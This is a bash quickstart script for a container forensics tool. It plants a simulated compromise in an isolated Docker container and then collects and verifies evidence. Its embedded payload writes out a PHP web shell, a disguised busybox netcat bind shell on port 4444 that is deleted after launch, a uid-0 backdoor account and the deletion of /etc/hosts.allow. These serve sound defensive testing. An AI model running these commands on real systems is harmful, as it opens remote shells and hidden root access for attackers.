#!/usr/bin/env bash
# samples/quickstart/run.sh — end-to-end demo of cfir on a "compromised" container.
#
#   1. brings up the test rig (scripts/rig/up.sh: dockerd + containerd + podman, and the
#      local image cfir-test/busybox:latest — no registry needed);
#   2. plants a container `cfir-sample-webapp` in Docker that behaves like a popped web app:
#      a web shell, a hidden copy of busybox running as a bind shell on port 4444 whose
#      binary is then deleted, a backdoor uid-0 account, a deleted /etc/hosts.allow
#      and a log stream of web-shell requests;
#   3. collects evidence with `cfir collect` into a .tar.gz and checks it with `cfir verify`;
#   4. prints the archive path and its sha256.
#
# Usage:  sudo samples/quickstart/run.sh [OUT]
#   OUT defaults to samples/quickstart/out/cfir-sample-<UTC timestamp>.tar.gz (or $OUT).
# Needs root: the rig, the Docker socket and the collector itself (reading /proc/<pid> and
# the container's storage) all do. When not root it re-executes itself through sudo.
# Clean up:  docker rm -f cfir-sample-webapp ;  sudo scripts/rig/down.sh
set -euo pipefail

CALLER_PWD=$PWD
ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
cd "$ROOT"

if [ "$(id -u)" -ne 0 ]; then
    command -v sudo >/dev/null 2>&1 || { echo "run.sh: needs root (no sudo available)" >&2; exit 1; }
    # Keep PATH so that a user-local dotnet is still found as root.
    exec sudo env "PATH=$PATH" ${OUT:+"OUT=$OUT"} bash "$0" "$@"
fi

NAME=cfir-sample-webapp
RIG_DIR="${CFIR_RIG_DIR:-/run/cfir-rig}"
OUT="${1:-${OUT:-}}"
if [ -z "$OUT" ]; then
    OUT="samples/quickstart/out/cfir-sample-$(date -u +%Y%m%dT%H%M%SZ).tar.gz"
elif [ "${OUT#/}" = "$OUT" ]; then
    OUT="$CALLER_PWD/$OUT"   # a path given by the caller is relative to where they stood
fi
CLI_PROJECT=src/ContainerForensics.Cli

log() { printf '[sample] %s\n' "$*" >&2; }
die() { printf '[sample] ERROR: %s\n' "$*" >&2; exit 1; }

# 1. rig --------------------------------------------------------------------------------
bash scripts/rig/up.sh >/dev/null
# shellcheck disable=SC1091
. "$RIG_DIR/env"
# The collector talks to the same engine the container was planted in.
export DOCKER_HOST="$CFIR_TEST_DOCKER_HOST"
if [ -x /usr/bin/docker ]; then DOCKER=/usr/bin/docker; else DOCKER=docker; fi
DOCKER=("$DOCKER" --host "$CFIR_TEST_DOCKER_HOST")

# 2. plant the compromised container ------------------------------------------------------
# The payload below runs under busybox sh as PID 1 of the container. It is kept free of
# comments because it ends up verbatim in the container's Cmd (docker inspect). Steps:
#   dropper      copy busybox to a hidden file under the web root (.cache/.kworker);
#                busybox picks its applet from argv[0], so a symlink "nc" -> .kworker runs nc
#   web shell    /var/www/shell.php
#   persistence  a second uid-0 account "backdoor" in /etc/passwd
#   evasion      /etc/hosts.allow deleted (shows up as a whiteout in the diff)
#   bind shell   nc listening on port 4444 (only loopback exists: --network none); its
#                binary is then deleted, so /proc/<pid>/exe reads ".kworker (deleted)"
#   marker       /tmp/.planted tells this script that planting is done
#   log noise    web-shell "requests" on stdout every 2 s (docker logs)
# Quoted heredoc: nothing in it is expanded by this script.
read -r -d '' PAYLOAD <<'SH' || true
set -e
mkdir -p /var/www/.cache
cp /bin/busybox /var/www/.cache/.kworker
chmod 755 /var/www/.cache/.kworker
ln -sf .kworker /var/www/.cache/nc
echo '<?php system($_GET["c"]); ?>' > /var/www/shell.php
echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd
rm -f /etc/hosts.allow
/var/www/.cache/nc -ll -p 4444 -e /bin/sh &
sleep 1
rm -f /var/www/.cache/.kworker /var/www/.cache/nc
touch /tmp/.planted
while true; do echo "GET /shell.php?c=id HTTP/1.1 200"; sleep 2; done
SH

if "${DOCKER[@]}" container inspect "$NAME" >/dev/null 2>&1; then
    log "removing previous $NAME"
    "${DOCKER[@]}" rm -f "$NAME" >/dev/null
fi
log "starting $NAME from $CFIR_TEST_IMAGE"
"${DOCKER[@]}" run -d --name "$NAME" --network none --label cfir.sample=quickstart \
    "$CFIR_TEST_IMAGE" sh -c "$PAYLOAD" >/dev/null

# Wait until the payload has finished planting (marker file), not just until "running".
for _ in $(seq 1 60); do
    [ "$("${DOCKER[@]}" inspect -f '{{.State.Running}}' "$NAME" 2>/dev/null)" = true ] &&
        "${DOCKER[@]}" exec "$NAME" test -e /tmp/.planted 2>/dev/null && break
    sleep 0.5
done
"${DOCKER[@]}" exec "$NAME" test -e /tmp/.planted 2>/dev/null || {
    "${DOCKER[@]}" logs "$NAME" 2>&1 | tail -n 20 >&2 || true
    die "$NAME did not finish planting"
}
log "$NAME is running (pid $("${DOCKER[@]}" inspect -f '{{.State.Pid}}' "$NAME"))"

# 3. collect + verify ---------------------------------------------------------------------
[ -d "$CLI_PROJECT" ] || die "$CLI_PROJECT not found (the cfir CLI is not in this checkout yet)"
command -v dotnet >/dev/null 2>&1 || die "dotnet not found on PATH"
mkdir -p "$(dirname "$OUT")"
export DOTNET_NOLOGO=1 DOTNET_CLI_TELEMETRY_OPTOUT=1

log "cfir collect $NAME --runtime docker -o $OUT"
dotnet run --project "$CLI_PROJECT" -c Release -- collect "$NAME" --runtime docker -o "$OUT"
[ -s "$OUT" ] || die "collect did not produce $OUT"

log "cfir verify $OUT"
# --no-build: the previous dotnet run already built the CLI.
dotnet run --project "$CLI_PROJECT" -c Release --no-build -- verify "$OUT"

# 4. report -------------------------------------------------------------------------------
echo
echo "evidence archive: $(cd "$(dirname "$OUT")" && pwd)/$(basename "$OUT")"
echo "sha256:           $(sha256sum "$OUT" | cut -d' ' -f1)"
echo "sample container $NAME is still running; remove it with: ${DOCKER[*]} rm -f $NAME"
